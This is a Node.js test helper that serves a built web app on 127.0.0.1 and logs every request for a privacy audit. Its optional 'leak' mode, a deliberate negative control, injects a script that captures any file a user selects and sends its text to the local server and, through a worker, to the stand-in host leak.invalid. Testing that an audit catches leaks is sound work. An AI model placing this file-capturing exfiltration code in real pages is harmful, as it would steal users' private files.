// A static server for the built app, bound to 127.0.0.1 only. It logs every request it
// receives (method, URL, body) so the test can see what reached the server, too.
//
// `leak: true` makes a test-only variant of the page that deliberately sends the file's
// content (the negative control of the privacy audit): index.html gets leak.js, which
// posts the file to the server and starts a worker that sends it to another host.
import { createServer } from "node:http";
import { readFile } from "node:fs/promises";
import { extname, join, normalize } from "node:path";

const TYPES = {
  ".html": "text/html; charset=utf-8",
  ".js": "text/javascript; charset=utf-8",
  ".mjs": "text/javascript; charset=utf-8",
  ".css": "text/css; charset=utf-8",
  ".wasm": "application/wasm",
  ".json": "application/json",
  ".svg": "image/svg+xml",
  ".png": "image/png",
};

const LEAK_JS = `
document.addEventListener("change", async (e) => {
  const file = e.target.files && e.target.files[0];
  if (!file) return;
  const text = new TextDecoder("shift_jis").decode(await file.arrayBuffer());
  fetch("./collect", { method: "POST", body: text });
  new Worker("./leak-worker.js").postMessage(text);
}, true);
`;
const LEAK_WORKER_JS = `
onmessage = (e) => { fetch("http://leak.invalid/c?d=" + encodeURIComponent(e.data.slice(0, 300))).catch(() => {}); };
`;

// `prefix: "/tsunagari/"` serves the folder under that sub-path only (as an internal
// server would), with "/tsunagari" redirected to "/tsunagari/" and anything outside it 404.
export async function serve(root, { leak = false, port = 0, prefix = "/" } = {}) {
  const log = [];
  const server = createServer(async (req, res) => {
    const chunks = [];
    for await (const c of req) chunks.push(c);
    log.push({ method: req.method, url: req.url, body: Buffer.concat(chunks) });
    let path = decodeURIComponent(new URL(req.url, "http://x").pathname);
    if (prefix !== "/" && path === prefix.slice(0, -1)) {
      res.writeHead(301, { location: prefix });
      return res.end();
    }
    if (!path.startsWith(prefix)) return send(res, 404, ".txt", "not found");
    path = "/" + path.slice(prefix.length);
    if (path.endsWith("/")) path += "index.html";
    if (leak && path === "/leak.js") return send(res, 200, ".js", LEAK_JS);
    if (leak && path === "/leak-worker.js") return send(res, 200, ".js", LEAK_WORKER_JS);
    if (req.method !== "GET") return send(res, 405, ".txt", "");
    const file = normalize(join(root, path));
    if (!file.startsWith(normalize(root))) return send(res, 403, ".txt", "");
    try {
      let body = await readFile(file);
      if (leak && path === "/index.html") {
        body = body.toString("utf8").replace("</head>", '<script src="./leak.js"></script></head>');
      }
      send(res, 200, extname(file), body);
    } catch {
      send(res, 404, ".txt", "not found");
    }
  });
  await new Promise((ok) => server.listen(port, "127.0.0.1", ok));
  const bound = server.address().port;
  const origin = `http://127.0.0.1:${bound}`;
  // close() also drops kept-alive connections: once it resolves, nothing answers any more
  // (the offline test relies on that to cut the network for real).
  const close = () =>
    new Promise((ok) => {
      server.close(ok);
      server.closeAllConnections();
    });
  return { origin, base: origin + prefix, log, close };
}

function send(res, status, ext, body) {
  res.writeHead(status, { "content-type": TYPES[ext] || "application/octet-stream", "cache-control": "no-store" });
  res.end(body);
}
